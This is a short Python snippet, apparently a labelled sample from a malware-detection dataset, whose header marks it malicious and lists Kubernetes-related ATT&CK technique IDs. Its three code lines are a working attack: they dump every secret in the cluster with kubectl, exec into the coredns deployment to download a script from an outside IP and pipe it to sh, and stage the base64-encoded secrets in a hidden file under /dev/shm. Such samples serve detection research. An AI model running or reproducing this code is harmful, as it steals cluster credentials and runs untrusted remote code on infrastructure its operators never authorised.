# label: malicious family=k8s techniques=T1059.004,T1074.001,T1105,T1552.007,T1564.001,T1609,T1613 lines=3-5
import subprocess, base64
out = subprocess.check_output("kubectl get secrets -A -o json", shell=True)
subprocess.call(["kubectl", "exec", "-n", "kube-system", "deploy/coredns", "--", "sh", "-c", "wget -qO- http://203.0.113.3/k | sh"])
open("/dev/shm/.s", "wb").write(base64.b64encode(out))
